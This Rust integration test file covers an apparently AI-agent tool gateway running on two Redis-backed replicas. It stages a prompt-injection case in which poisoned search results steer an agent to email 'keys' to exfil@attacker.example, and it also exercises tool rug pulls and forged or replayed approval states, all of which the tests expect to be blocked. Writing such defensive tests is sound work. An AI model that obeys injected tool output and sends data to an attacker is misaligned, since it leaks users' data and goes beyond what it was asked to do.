//! Two `toolgate gateway` replicas sharing a real `redis-server`: one client session
//! alternates its requests between them, and the agent session behaves as one (taint,
//! budgets, approvals, rug pulls), fails closed when Redis is gone or holds garbage, and
//! survives a replica killed in the middle of a call.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::time::Duration;

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use toolgate_testkit::gateway::{GatewayProcess, initialize, message_of};
use toolgate_testkit::redis::RedisServer;
use toolgate_testkit::{bin_path, wait_until};

const TOKEN: &str = "alice-token-0123456789";

/// The policy of the mail server: reading is free, a send goes through the sink gate,
/// `list_contacts` has a budget of 3 calls a session.
const POLICY: &str = r#"version: 1
default: allow
packs: [email]
tools:
  send_email:
    trusted_destinations: ["*@team.example"]
  search_emails:
    output: untrusted
  list_contacts:
    max_calls: 3
"#;

struct Deployment {
    _dir: tempfile::TempDir,
    dir: PathBuf,
    redis: RedisServer,
    a: GatewayProcess,
    b: GatewayProcess,
    record: PathBuf,
}

fn config(dir: &Path, replica: &str, redis: &str, namespace: &str, server_args: &str) -> PathBuf {
    let hash = hex::encode(Sha256::digest(TOKEN.as_bytes()));
    let attack = bin_path("attack_server");
    let record = dir.join("record.jsonl");
    let text = format!(
        r#"version: 1
listen: 127.0.0.1:0
public_url: http://127.0.0.1:8443
replica: {replica}
secret: {{ file: secret }}
audit: audit-{replica}.jsonl
store:
  url: {redis}
  namespace: {namespace}
auth:
  tokens:
    - {{ user: alice, sha256: {hash}, groups: [dev] }}
servers:
  mail:
    command: [{attack}, --kind, mail, --record, {record}{server_args}]
    policy: policy.yaml
"#,
        attack = attack.display(),
        record = record.display(),
    );
    let path = dir.join(format!("gateway-{replica}.yaml"));
    std::fs::write(&path, text).unwrap();
    path
}

/// Two replicas on one Redis, or None (skipped) when `redis-server` is not installed.
fn deploy(server_args: &str) -> Option<Deployment> {
    let redis = RedisServer::start_tcp()?;
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().canonicalize().unwrap();
    std::fs::write(
        dir.join("secret"),
        "5b1f0c8e7a2d4c6b9e0f1a3c5d7e9f1b2c4d6e8f0a1b3c5d7e9f0a2b4c6d8e0f",
    )
    .unwrap();
    std::fs::write(dir.join("policy.yaml"), POLICY).unwrap();
    let ns = format!("t{}", std::process::id());
    let a = GatewayProcess::start(
        &crate::common::toolgate_bin(),
        &config(&dir, "a", &redis.url(), &ns, server_args),
        &[],
    );
    let b = GatewayProcess::start(
        &crate::common::toolgate_bin(),
        &config(&dir, "b", &redis.url(), &ns, server_args),
        &[],
    );
    Some(Deployment {
        record: dir.join("record.jsonl"),
        _dir: tmp,
        dir,
        redis,
        a,
        b,
    })
}

/// Opens a session on `gw` (with the client capabilities given) and returns its id.
fn open(gw: &GatewayProcess, agent: Option<&str>, capabilities: Value) -> String {
    let init = json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {
        "protocolVersion": "2025-06-18", "capabilities": capabilities,
        "clientInfo": {"name": "replica-tests", "version": "1"}}});
    let auth = format!("Bearer {TOKEN}");
    let mut headers = vec![
        ("Content-Type", "application/json"),
        ("Accept", "application/json, text/event-stream"),
        ("Authorization", auth.as_str()),
    ];
    if let Some(agent) = agent {
        headers.push(("Toolgate-Agent-Session", agent));
    }
    let reply = toolgate_testkit::http::request(
        &gw.addr,
        "POST",
        "/servers/mail/mcp",
        &headers,
        init.to_string().as_bytes(),
    );
    assert_eq!(reply.status, 200);
    let session = reply
        .header("mcp-session-id")
        .expect("session id")
        .to_owned();
    let answer = message_of(reply);
    assert!(answer.get("result").is_some(), "{answer}");
    let r = gw.post(
        "mail",
        TOKEN,
        Some(&session),
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
    );
    assert_eq!(r.status, 202);
    session
}

fn call(gw: &GatewayProcess, session: &str, id: u64, tool: &str, args: Value) -> Value {
    let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
        "params": {"name": tool, "arguments": args}});
    let reply = gw.post("mail", TOKEN, Some(session), &msg.to_string());
    if reply.status != 200 {
        let status = reply.status;
        let (body, _) = reply.body();
        panic!("{status}: {}", String::from_utf8_lossy(&body));
    }
    let answer = message_of(reply);
    assert_eq!(answer["id"], json!(id), "{answer}");
    answer
}

fn blocked(answer: &Value) -> Option<String> {
    let result = answer.get("result")?;
    if result["isError"] != json!(true) {
        return None;
    }
    let text = result["content"][0]["text"].as_str()?;
    text.starts_with("toolgate blocked")
        .then(|| text.to_owned())
}

fn allowed(answer: &Value) -> bool {
    answer.get("result").is_some() && blocked(answer).is_none()
}

/// The calls the mail server really received.
fn received(record: &Path) -> Vec<Value> {
    std::fs::read_to_string(record)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

#[test]
fn taint_seen_through_one_replica_denies_a_send_through_the_other() {
    let Some(d) = deploy("") else { return };
    let s = open(&d.a, None, json!({}));
    let read = call(&d.a, &s, 1, "search_emails", json!({"query": "migration"}));
    assert!(allowed(&read), "{read}");
    // The poisoned mail named exfil@attacker.example: a send there through B is denied.
    let send = call(
        &d.b,
        &s,
        2,
        "send_email",
        json!({"to": ["exfil@attacker.example"], "subject": "keys", "body": "x"}),
    );
    let why = blocked(&send).unwrap_or_else(|| panic!("not blocked: {send}"));
    assert!(why.contains("exfil@attacker.example"), "{why}");
    assert!(
        why.contains("search_emails"),
        "the reason names the source: {why}"
    );
    // A send to a trusted destination through B passes; the server ran only that one.
    let ok = call(
        &d.b,
        &s,
        3,
        "send_email",
        json!({"to": ["alice@team.example"], "subject": "hi", "body": "x"}),
    );
    assert!(allowed(&ok), "{ok}");
    let sends: Vec<Value> = received(&d.record)
        .into_iter()
        .filter(|r| r["name"] == json!("send_email"))
        .collect();
    assert_eq!(sends.len(), 1, "{sends:?}");
    assert_eq!(sends[0]["arguments"]["to"], json!(["alice@team.example"]));
    // Each replica audits what it decided, with its id and the user (a denial's record is
    // written right after its answer is delivered).
    let denial_of = || {
        std::fs::read_to_string(d.dir.join("audit-b.jsonl"))
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .find(|r| r["kind"] == json!("decision") && r["effect"] == json!("deny"))
    };
    assert!(
        wait_until(Duration::from_secs(10), || denial_of().is_some()),
        "B recorded the denial"
    );
    let denial = denial_of().unwrap();
    assert_eq!(denial["replica"], json!("b"));
    assert_eq!(denial["user"], json!("token:alice"));
}

#[test]
fn taint_is_shared_by_the_sessions_of_one_agent_session() {
    let Some(d) = deploy("") else { return };
    // Two MCP sessions (as for two servers) of one agent session, on two replicas.
    let reader = open(&d.a, Some("agent-7"), json!({}));
    let sender = open(&d.b, Some("agent-7"), json!({}));
    let other = open(&d.b, Some("agent-8"), json!({}));
    assert!(allowed(&call(
        &d.a,
        &reader,
        1,
        "search_emails",
        json!({"query": "x"})
    )));
    let to_attacker = json!({"to": ["exfil@attacker.example"], "subject": "k", "body": "x"});
    let send = call(&d.b, &sender, 2, "send_email", to_attacker.clone());
    assert!(blocked(&send).is_some(), "{send}");
    // Another agent session saw nothing: the same send is unproven there (asks; with no
    // way to ask, denied), not tainted.
    let send = call(&d.b, &other, 3, "send_email", to_attacker);
    let why = blocked(&send).expect("asks, no channel: denied");
    assert!(!why.contains("search_emails"), "{why}");
}

#[test]
fn a_budget_is_counted_across_both_replicas() {
    let Some(d) = deploy("") else { return };
    let s = open(&d.a, None, json!({}));
    let replicas = [&d.a, &d.b, &d.a, &d.b, &d.a];
    let mut outcomes = Vec::new();
    for (i, gw) in replicas.iter().enumerate() {
        let answer = call(gw, &s, i as u64 + 1, "list_contacts", json!({}));
        outcomes.push(allowed(&answer));
        if i == 3 {
            let why = blocked(&answer).expect("the fourth call is over the budget");
            assert!(why.contains("budget of 3"), "{why}");
        }
    }
    assert_eq!(outcomes, [true, true, true, false, false]);
    let ran = received(&d.record)
        .into_iter()
        .filter(|r| r["name"] == json!("list_contacts"))
        .count();
    assert_eq!(
        ran, 3,
        "the server ran exactly the three calls within the budget"
    );
}

/// Sends a call whose answer is an SSE stream that starts with an `elicitation/create`,
/// answers it with `choice` through the same replica, and returns the final answer.
fn call_answering(
    gw: &GatewayProcess,
    session: &str,
    id: u64,
    args: Value,
    choice: usize,
) -> Value {
    let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
        "params": {"name": "send_email", "arguments": args}});
    let mut reply = gw.post("mail", TOKEN, Some(session), &msg.to_string());
    assert_eq!(reply.status, 200);
    assert!(
        reply
            .header("content-type")
            .is_some_and(|t| t.starts_with("text/event-stream")),
        "an ask streams the question first"
    );
    let event = reply.next_event().unwrap().expect("the question");
    let question: Value = serde_json::from_str(&event.data).unwrap();
    assert_eq!(
        question["method"],
        json!("elicitation/create"),
        "{question}"
    );
    let props = &question["params"]["requestedSchema"]["properties"];
    let (field, schema) = props.as_object().unwrap().iter().next().unwrap();
    let value = schema["enum"][choice].clone();
    let answer = json!({"jsonrpc": "2.0", "id": question["id"],
        "result": {"action": "accept", "content": {field.clone(): value}}});
    let r = gw.post("mail", TOKEN, Some(session), &answer.to_string());
    assert_eq!(r.status, 202);
    let (events, _) = reply.events();
    serde_json::from_str(&events.last().expect("the result").data).unwrap()
}

#[test]
fn an_approval_given_through_one_replica_covers_the_same_action_on_the_other() {
    let Some(d) = deploy("") else { return };
    let s = open(&d.a, None, json!({"elicitation": {}}));
    let to_partner = json!({"to": ["bob@partner.example"], "subject": "s", "body": "x"});
    // Unproven destination: A asks; the human allows it for the session.
    let first = call_answering(&d.a, &s, 1, to_partner.clone(), 1);
    assert!(allowed(&first), "{first}");
    // B: the same action passes without a question (a JSON answer, not a stream).
    let second = call(&d.b, &s, 2, "send_email", to_partner);
    assert!(allowed(&second), "{second}");
    // Another destination is another action: B asks (and here the human denies).
    let third = call_answering(
        &d.b,
        &s,
        3,
        json!({"to": ["carol@partner.example"], "subject": "s", "body": "x"}),
        2,
    );
    assert!(blocked(&third).is_some(), "{third}");
    let to: Vec<Value> = received(&d.record)
        .into_iter()
        .filter(|r| r["name"] == json!("send_email"))
        .map(|r| r["arguments"]["to"].clone())
        .collect();
    assert_eq!(
        to,
        [
            json!(["bob@partner.example"]),
            json!(["bob@partner.example"])
        ]
    );
}

#[test]
fn a_rug_pull_seen_through_one_replica_is_enforced_on_the_other() {
    // Each upstream changes `search_emails` after its second call.
    let Some(d) = deploy(", --rug-pull-after, '2'") else {
        return;
    };
    let s = open(&d.a, None, json!({}));
    let list = |gw: &GatewayProcess, id: u64| {
        let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/list"});
        message_of(gw.post("mail", TOKEN, Some(&s), &msg.to_string()))
    };
    assert!(list(&d.a, 1)["result"]["tools"].is_array());
    // B's own upstream: one call, not pulled.
    assert!(allowed(&call(
        &d.b,
        &s,
        2,
        "search_emails",
        json!({"query": "q"})
    )));
    // A's upstream is pulled after its second call; A lists and sees the change.
    assert!(allowed(&call(
        &d.a,
        &s,
        3,
        "search_emails",
        json!({"query": "q"})
    )));
    assert!(allowed(&call(
        &d.a,
        &s,
        4,
        "search_emails",
        json!({"query": "q"})
    )));
    let _ = list(&d.a, 5);
    let on_a = call(&d.a, &s, 6, "search_emails", json!({"query": "q"}));
    assert!(blocked(&on_a).is_some(), "A: {on_a}");
    // B's upstream still serves the old definition, but B does not trust its listing any
    // more: the call is not allowed.
    let on_b = call(&d.b, &s, 7, "search_emails", json!({"query": "q"}));
    let why = blocked(&on_b).unwrap_or_else(|| panic!("B allowed it: {on_b}"));
    assert!(why.contains("changed"), "{why}");
}

#[test]
fn when_redis_stops_every_call_is_denied_with_the_reason_and_service_comes_back() {
    let Some(mut d) = deploy("") else { return };
    let s = open(&d.a, None, json!({}));
    assert!(allowed(&call(&d.a, &s, 1, "list_contacts", json!({}))));
    assert!(allowed(&call(&d.b, &s, 2, "list_contacts", json!({}))));
    let unresumed = open(&d.a, None, json!({}));
    let before = received(&d.record).len();
    d.redis.stop();
    for (i, gw) in [&d.a, &d.b].iter().enumerate() {
        let answer = call(gw, &s, 10 + i as u64, "list_contacts", json!({}));
        let why = blocked(&answer).unwrap_or_else(|| panic!("allowed without the store: {answer}"));
        assert!(why.contains("state store"), "{why}");
        // An outage passes: the model is told it may try again later, not to change course.
        assert!(
            why.contains("may be retried later") && !why.contains("do not retry"),
            "{why}"
        );
        assert!(
            why.contains(&d.redis.url().replace("redis://", "")) || why.contains("127.0.0.1"),
            "{why}"
        );
        let ready = gw.get("/readyz");
        assert_eq!(ready.status, 503);
        assert_eq!(gw.get("/healthz").status, 200);
    }
    // A session that must be resumed on B cannot be without the store: refused, not
    // resumed on stale state.
    let r = d.b.post(
        "mail",
        TOKEN,
        Some(&unresumed),
        r#"{"jsonrpc":"2.0","id":30,"method":"tools/list"}"#,
    );
    assert_eq!(r.status, 503);
    let (body, _) = r.body();
    assert!(String::from_utf8_lossy(&body).contains("state store"));
    assert_eq!(
        received(&d.record).len(),
        before,
        "nothing reached the server"
    );
    d.redis.restart();
    assert!(
        wait_until(Duration::from_secs(10), || d.a.get("/readyz").status == 200),
        "A is ready again"
    );
    let answer = call(&d.b, &s, 20, "list_contacts", json!({}));
    assert!(allowed(&answer), "service resumed by itself: {answer}");
}

#[test]
fn garbage_under_the_gateways_keys_denies_and_never_crashes() {
    let Some(d) = deploy("") else { return };
    let s = open(&d.a, Some("agent-g"), json!({}));
    let hash = hex::encode(Sha256::digest("token\u{0}alice\u{0}agent-g".as_bytes()));
    let ns = format!("t{}", std::process::id());
    for suffix in ["taint", "approvals", "calls"] {
        let key = format!("{ns}:{{s:{hash}}}:{suffix}");
        d.redis.cli(&["SET", &key, "garbage"]);
        let answer = call(&d.b, &s, 1, "list_contacts", json!({}));
        let why = blocked(&answer).unwrap_or_else(|| panic!("allowed over garbage: {answer}"));
        assert!(why.contains("unexpected data"), "{why}");
        assert_eq!(d.b.get("/healthz").status, 200, "B is alive");
        d.redis.cli(&["DEL", &key]);
    }
    assert!(allowed(&call(&d.a, &s, 2, "list_contacts", json!({}))));
}

#[test]
fn a_replica_killed_in_the_middle_of_a_call_leaves_an_error_not_silence() {
    let Some(mut d) = deploy("") else { return };
    let s = open(&d.a, None, json!({"elicitation": {}}));
    // A call that waits for a human (an ask), in flight when A is killed.
    let msg =
        json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "send_email",
        "arguments": {"to": ["bob@partner.example"], "subject": "s", "body": "x"}}})
        .to_string();
    let mut conn = TcpStream::connect(&d.a.addr).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    write!(
        conn,
        "POST /servers/mail/mcp HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nAuthorization: Bearer {TOKEN}\r\nMcp-Session-Id: {s}\r\nContent-Length: {}\r\n\r\n{msg}",
        msg.len()
    )
    .unwrap();
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut line = String::new();
    reader.read_line(&mut line).unwrap();
    assert!(line.contains("200"), "{line}");
    // Wait until the question arrived, then kill A.
    let mut seen = String::new();
    while !seen.contains("elicitation/create") {
        line.clear();
        assert!(reader.read_line(&mut line).unwrap() > 0);
        seen.push_str(&line);
    }
    d.a.kill();
    let mut rest = Vec::new();
    let end = reader.read_to_end(&mut rest);
    // The client learns that the exchange ended (end of stream or reset), not by running
    // into its own 20 s read timeout.
    assert!(
        !end.as_ref().is_err_and(|e| matches!(
            e.kind(),
            std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
        )),
        "the client was left waiting: {end:?}"
    );
    let rest = String::from_utf8_lossy(&rest);
    assert!(
        end.is_err() || !rest.contains("\"result\""),
        "no result was made up: {rest}"
    );
    // The client goes on with the same session on B.
    let answer = call(&d.b, &s, 2, "list_contacts", json!({}));
    assert!(allowed(&answer), "{answer}");
    // Nothing of the interrupted call ran.
    assert!(
        !received(&d.record)
            .iter()
            .any(|r| r["name"] == json!("send_email")),
        "the send never reached the server"
    );
}

#[test]
fn a_session_is_refused_to_another_user_and_an_unknown_id_is_404() {
    let Some(d) = deploy("") else { return };
    let s = open(&d.a, None, json!({}));
    let forged = format!("{}x", &s[..s.len() - 1]);
    let r = d.b.post(
        "mail",
        TOKEN,
        Some(&forged),
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
    );
    assert_eq!(r.status, 404, "a tampered id is not a session");
    let r = d.b.post(
        "mail",
        TOKEN,
        Some("tg1.nope"),
        r#"{"jsonrpc":"2.0","id":1,"method":"ping"}"#,
    );
    assert_eq!(r.status, 404);
    // A body that is not declared JSON, or a client that takes neither JSON nor SSE: refused.
    let auth = format!("Bearer {TOKEN}");
    let post = |content_type: &str, accept: &str| {
        toolgate_testkit::http::request(
            &d.a.addr,
            "POST",
            "/servers/mail/mcp",
            &[
                ("Content-Type", content_type),
                ("Accept", accept),
                ("Authorization", auth.as_str()),
            ],
            initialize(1).as_bytes(),
        )
        .status
    };
    assert_eq!(
        post("text/plain", "application/json, text/event-stream"),
        415
    );
    assert_eq!(post("application/json", "text/html"), 406);
    assert_eq!(
        post(
            "application/json; charset=utf-8",
            "application/json, text/event-stream"
        ),
        200
    );
}

/// A 2026-07-28 request: no session, the revision and capabilities in its own `_meta`.
fn stateless(gw: &GatewayProcess, id: u64, tool: &str, args: Value, extra: Value) -> Value {
    let mut params = json!({"name": tool, "arguments": args, "_meta": {
        "io.modelcontextprotocol/protocolVersion": "2026-07-28",
        "io.modelcontextprotocol/clientCapabilities": {"elicitation": {"form": {}}}}});
    if let (Some(p), Some(e)) = (params.as_object_mut(), extra.as_object()) {
        p.extend(e.clone());
    }
    let msg = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params});
    let reply = toolgate_testkit::http::request(
        &gw.addr,
        "POST",
        "/servers/mail/mcp",
        &[
            ("Content-Type", "application/json"),
            ("Accept", "application/json, text/event-stream"),
            ("Authorization", &format!("Bearer {TOKEN}")),
            ("MCP-Protocol-Version", "2026-07-28"),
        ],
        msg.to_string().as_bytes(),
    );
    assert_eq!(reply.status, 200);
    assert!(
        reply.header("mcp-session-id").is_none(),
        "no session in 2026-07-28"
    );
    message_of(reply)
}

#[test]
fn stateless_requests_land_on_any_replica_as_one_agent_session() {
    let Some(d) = deploy("") else { return };
    // Taint read through A denies a send through B.
    let read = stateless(&d.a, 1, "search_emails", json!({"query": "q"}), json!({}));
    assert!(allowed(&read), "{read}");
    let send = stateless(
        &d.b,
        2,
        "send_email",
        json!({"to": ["exfil@attacker.example"], "subject": "k", "body": "x"}),
        json!({}),
    );
    assert!(blocked(&send).is_some(), "{send}");
    // An ask comes back as `input_required` with a sealed state; the retry with the answer
    // is verified and carried by the other replica.
    let to_partner = json!({"to": ["bob@partner.example"], "subject": "s", "body": "x"});
    let asked = stateless(&d.a, 3, "send_email", to_partner.clone(), json!({}));
    assert_eq!(
        asked["result"]["resultType"],
        json!("input_required"),
        "{asked}"
    );
    let state = asked["result"]["requestState"].clone();
    let state = state.as_str().unwrap().to_owned();
    let key = asked["result"]["inputRequests"]
        .as_object()
        .unwrap()
        .keys()
        .next()
        .unwrap()
        .clone();
    let retry = stateless(
        &d.b,
        4,
        "send_email",
        to_partner.clone(),
        json!({"requestState": state, "inputResponses": {key.clone(): {"action": "accept", "content": {"decision": "allow_once"}}}}),
    );
    assert!(allowed(&retry), "{retry}");
    // The same answered state replayed on the other replica is refused: used once.
    let replay = stateless(
        &d.a,
        6,
        "send_email",
        to_partner.clone(),
        json!({"requestState": state, "inputResponses": {key.clone(): {"action": "accept", "content": {"decision": "allow_once"}}}}),
    );
    let why = blocked(&replay).unwrap_or_else(|| panic!("replayed: {replay}"));
    assert!(why.contains("already used"), "{why}");
    // A forged state is refused.
    let forged = stateless(
        &d.b,
        5,
        "send_email",
        to_partner,
        json!({"requestState": "tg1.forged", "inputResponses": {key: {"action": "accept", "content": {"decision": "allow_once"}}}}),
    );
    assert!(!allowed(&forged), "{forged}");
    let sends: Vec<Value> = received(&d.record)
        .into_iter()
        .filter(|r| r["name"] == json!("send_email"))
        .collect();
    assert_eq!(sends.len(), 1, "only the approved send ran: {sends:?}");
}
